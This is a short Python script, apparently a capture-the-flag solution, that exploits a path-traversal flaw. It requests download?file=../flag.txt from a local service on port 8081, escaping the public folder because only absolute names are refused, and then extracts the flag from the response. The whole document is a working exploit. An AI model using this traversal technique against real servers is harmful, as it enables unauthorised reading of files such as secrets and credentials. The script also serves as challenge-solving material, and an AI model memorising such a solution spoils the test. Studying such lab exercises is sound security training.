"""Only absolute names are refused: ../ climbs out of the public folder."""

import re
import urllib.request

url = "http://127.0.0.1:8081/download?file=../flag.txt"
with urllib.request.urlopen(url, timeout=10) as response:
    body = response.read().decode()
print(re.search(r"flag\{[0-9a-f]{32}\}", body).group(0))
